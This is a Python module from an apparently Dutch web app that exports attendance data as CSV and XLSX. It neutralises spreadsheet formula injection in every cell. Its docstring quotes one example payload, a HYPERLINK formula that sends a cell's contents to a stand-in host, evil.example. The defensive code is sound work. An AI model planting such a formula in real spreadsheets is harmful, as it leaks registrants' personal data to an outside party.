"""The attendance matrix as a spreadsheet: CSV (Excel-friendly: UTF-8 with BOM, semicolons as Dutch
Excel expects) and XLSX, for the API and the back-office.

What a registrant typed (a name, an organisation, a substitute) ends up in organisers'
spreadsheets, so nothing in a cell may be taken for a formula (CSV or formula injection:
``=HYPERLINK("http://evil.example/?d="&A2,"klik")`` as someone's name). Every cell of every
export goes through :func:`spreadsheet_text`; XLSX cells are moreover written as text cells.
"""

from __future__ import annotations

import csv
import io
import re

from flask import Response
from flask_babel import gettext as _
from openpyxl import Workbook
from openpyxl.styles import Font

from wijkwerk.attendance.models import AttendanceStatus
from wijkwerk.attendance.services import Matrix
from wijkwerk.formatting import date

# What makes Excel, LibreOffice or Google Sheets read a cell as a formula (OWASP, "CSV Injection").
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# A plain number ("-5", "-12,50") is left as it is: it is read as the number it is, and no
# formula can hide in digits. A phone number ("+31 6 1234 5678") is not a number: it is
# quoted, and so kept as typed rather than read as "=31 6 1234 5678".
_PLAIN_NUMBER = re.compile(r"-?[0-9]+(?:[.,][0-9]+)?")

XLSX_MIMETYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def spreadsheet_text(value: str) -> str:
    """``value`` as a spreadsheet cell that cannot be a formula: a value starting with ``=``,
    ``+``, ``-``, ``@``, a tab or a carriage return gets a single quote in front (OWASP's rule),
    except a plain number. Used by every CSV and XLSX export."""
    if value.startswith(FORMULA_START) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def export_response(body: bytes, fmt: str, filename: str) -> Response:
    """A spreadsheet download (``fmt`` ``csv`` or ``xlsx``). It holds names and e-mail
    addresses, so no browser or proxy may keep a copy."""
    mimetype = "text/csv" if fmt == "csv" else XLSX_MIMETYPE
    return Response(
        body,
        mimetype=mimetype,
        headers={
            "Content-Disposition": f'attachment; filename="{filename}.{fmt}"',
            "Cache-Control": "private, no-store",
        },
    )


def status_names() -> dict[AttendanceStatus, str]:
    """The words for each status, looked up once per page rather than once per cell."""
    return {
        AttendanceStatus.PRESENT: _("aanwezig"),
        AttendanceStatus.ABSENT: _("afwezig"),
        AttendanceStatus.EXCUSED: _("afgemeld"),
    }


def status_label(mark, expected: bool = True, names: dict | None = None) -> str:
    if not expected:
        return "–"
    if mark is None:
        return ""
    label = (names or status_names())[mark.status]
    if mark.substitute_name:
        label += " " + _("(vervangen door %(name)s)", name=mark.substitute_name)
    return label


def matrix_rows(matrix: Matrix) -> list[list[str]]:
    """Header, a row per person, and a totals row."""
    header = [_("Naam"), _("E-mailadres"), _("Gemeente of organisatie"), _("Referentie")]
    header += [f"{s.title} ({date(s.starts_at)})" for s in matrix.sessions]
    header.append(_("Aanwezig"))
    rows = [header]
    names = status_names()
    for row in matrix.rows:
        rows.append(
            [row.name, row.email, row.group, row.reference]
            + [status_label(m, e, names) for m, e in zip(row.marks, row.expected, strict=True)]
            + [str(row.present)]
        )
    rows.append(
        [_("Totaal aanwezig"), "", "", ""]
        + [str(matrix.present_at(i)) for i in range(len(matrix.sessions))]
        + [str(sum(r.present for r in matrix.rows))]
    )
    return rows


def matrix_xlsx(matrix: Matrix) -> bytes:
    """The same table as an Excel workbook (openpyxl), header bold and frozen."""
    return rows_xlsx(matrix_rows(matrix), _("Aanwezigheid"), bold_last=True)


def rows_xlsx(rows: list[list[str]], title: str, *, bold_last: bool = False) -> bytes:
    """A table (a header row, then rows of text) as an Excel workbook: every text cell a text
    cell that cannot be a formula, counts as numbers, the header bold and frozen."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = title[:31]
    for row in rows:
        sheet.append([_xlsx_value(v) for v in row])
        for cell in sheet[sheet.max_row]:
            if isinstance(cell.value, str):
                # A text cell, never a formula (openpyxl makes one of any "=…"), and kept as
                # text when someone edits it.
                cell.data_type = "s"
                cell.number_format = "@"
    for cell in sheet[1]:
        cell.font = Font(bold=True)
    for cell in sheet[len(rows)] if bold_last else ():
        cell.font = Font(bold=True)
    sheet.freeze_panes = "B2"
    for column in sheet.columns:
        width = max(len(str(c.value or "")) for c in column)
        sheet.column_dimensions[column[0].column_letter].width = min(max(width + 2, 10), 40)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def _xlsx_value(value: str) -> str | int | None:
    """A count as a number, an empty cell as none, anything else as safe text."""
    if value.isascii() and value.isdigit():
        return int(value)
    return spreadsheet_text(value) if value else None


def matrix_csv(matrix: Matrix) -> bytes:
    return rows_csv(matrix_rows(matrix))


def rows_csv(rows: list[list[str]]) -> bytes:
    """A table as CSV for Dutch Excel (UTF-8 with BOM, semicolons), no cell a formula."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
    writer.writerows([spreadsheet_text(v) for v in row] for row in rows)
    return ("\ufeff" + out.getvalue()).encode("utf-8")
